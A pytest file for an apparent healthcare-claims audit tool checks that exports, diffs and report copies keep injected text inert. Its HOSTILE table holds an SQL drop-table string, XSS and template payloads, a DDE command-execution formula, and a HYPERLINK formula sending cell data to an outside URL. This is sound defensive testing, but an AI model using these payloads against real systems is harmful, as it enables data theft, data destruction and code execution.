"""Text of claims and of a plan's tables is shown and never run: no SQL, no formula; browser/ tries reports."""

from __future__ import annotations

import base64
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from audit_lib.claims.layouts import contract_columns
from audit_lib.cli import main
from audit_lib.reports.copies import csv_copy
from audit_lib.safe_text import begins_like_formula

HOSTILE = {
    "sql": "'; drop table claim_lines; --",
    "script": "</script></style></textarea><script>zqran()</script><zqtag>",
    "attribute": '"><img src=x onerror=zqran()><zqtag x="',
    "apostrophe": "' onmouseover='zqran()' zqattr='",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"zqtag")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0<zqtag>",
    "markdown": "[zqtag](javascript:zqran()) `<zqtag>` $$\\href{javascript:zqran()}{x}$$",
    "template": "{{ zqran() }}{% raw %}<zqtag>",
}
TEXTS = [c.name for c in contract_columns() if c.kind in ("identifier", "text", "word")]
NEEDED = ["claim_line_number", "claim_line_start_date", "hcpcs_code", "service_unit_quantity", "paid_amount"]
NAMES = [*TEXTS, *NEEDED, "billing_tin", "ndc_code", "diagnosis_code_1", "rendering_npi"]


def _lines(text: str) -> list[dict[str, str]]:
    """A per diem and a supply of it, with the text wherever text may stand."""
    line = {**dict.fromkeys(NAMES, text), "claim_line_start_date": "2025-08-04", "service_unit_quantity": "1"}
    line |= {"original_claim_id": "", "line_of_business": "commercial"}
    codes = {"1": ("S9500", "90.00"), "2": ("A4222", "200.00"), "3": (text, "5.00")}
    return [
        {**line, "claim_line_number": n, "hcpcs_code": code, "paid_amount": paid} for n, (code, paid) in codes.items()
    ]


def hostile_run(place: Path) -> Path:
    """Audit claims and names of providers that hold each of the texts, and return the run."""
    rows = [row for text in HOSTILE.values() for row in _lines(text)]
    _write(place / "claims.csv", rows)
    names = [{"provider_id": row["billing_tin"], "name": row["claim_id"], "specialty": row["claim_id"]} for row in rows]
    _write(place / "providers.csv", [row for n, row in enumerate(names) if row not in names[:n]])
    (place / "settings.yml").write_text("providers: providers.csv\n", "utf-8")
    words = ["run", "--claims", place / "claims.csv", "--out", place, "--run-id", "r", "--no-reports", "--no-quality"]
    assert main([*map(str, words), "--config", str(place / "settings.yml")]) == 0
    return place / "r"


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_run(tmp_path_factory.mktemp("hostile"))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exports_hold_it_as_text(run_folder: Path, tmp_path: Path, file_format: str) -> None:
    words = ["export", str(run_folder), "--out", str(tmp_path / "out"), "--with-review", "--format", file_format]
    assert main(words) == 0
    files = [path for path in (tmp_path / "out").rglob(f"*.{file_format}") if path.is_file()]
    assert files and all(path.resolve().is_relative_to(tmp_path) for path in files)
    if file_format == "csv":
        cells = [cell for path in files for row in csv.reader(path.open(newline="")) for cell in row]
        assert not [cell for cell in cells if begins_like_formula(cell) and not _is_number(cell)]
    else:
        cells = [cell for path in files for sheet in openpyxl.load_workbook(path) for row in sheet for cell in row]
        formulas = [cell.value for cell in cells if cell.data_type == "f"]
        assert [text for text in formulas if not str(text).startswith("=SUBTOTAL(")] == []
        assert [cell for cell in cells if cell.hyperlink and "zqtag" in str(cell.hyperlink.target)] == []
        cells = [str(cell.value) for cell in cells]
    assert any("HYPERLINK" in cell for cell in cells)


def test_a_diff_holds_it_as_text_and_amounts_as_numbers(run_folder: Path, tmp_path: Path) -> None:
    claims, out = tmp_path / "claims.csv", tmp_path / "diff.csv"
    rows = list(csv.DictReader((run_folder.parent / "claims.csv").open(newline="")))
    _write(claims, [row | {"paid_amount": "50.00"} if row["claim_line_number"] == "2" else row for row in rows])
    words = ["run", "--claims", claims, "--out", tmp_path, "--run-id", "later", "--no-reports", "--no-quality"]
    assert main([*map(str, words)]) == 0
    assert main(["diff", str(run_folder), str(tmp_path / "later"), "--out", str(out)]) == 0
    found = list(csv.DictReader(out.open(newline="")))
    cells = [cell for row in found for cell in row.values()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if begins_like_formula(cell) and not _is_number(cell)]
    amounts = {cell for row in found for name, cell in row.items() if name.startswith(("amount_", "net_")) and cell}
    assert amounts and all(_is_number(cell) for cell in amounts)


def test_a_copy_of_a_report_holds_it_as_text_and_amounts_as_numbers() -> None:
    table = pd.DataFrame(
        {
            "claim_id": [*HOSTILE.values(), "A-1"],
            "change_amount": [Decimal("-12.30")] * 8 + [None],
            "line_count": [-1] * 9,
            "share": [-0.5] * 9,
            "claim_line_start_date": [date(2025, 8, 4)] * 9,
            "month": [pd.Timestamp(2025, 8, 1)] * 9,
            "=provider": pd.Categorical(["+1"] * 9),
        }
    )
    table.attrs["name"] = "findings"
    rows = list(csv.reader(io.StringIO(base64.b64decode(csv_copy(table)).decode(), newline="")))
    texts = [f"'{text}" if text[0] in "=@" else text for text in HOSTILE.values()]
    assert rows[0] == [
        "claim_id",
        "change_amount",
        "line_count",
        "share",
        "claim_line_start_date",
        "month",
        "'=provider",
    ]
    assert [row[0] for row in rows[1:]] == [*texts, "A-1"]
    assert rows[1][1:] == ["-12.30", "-1", "-0.5", "2025-08-04", "2025-08-01", "'+1"] and rows[-1][1] == ""


def _is_number(text: str) -> bool:
    return text.lstrip("-").replace(".", "", 1).isdigit()
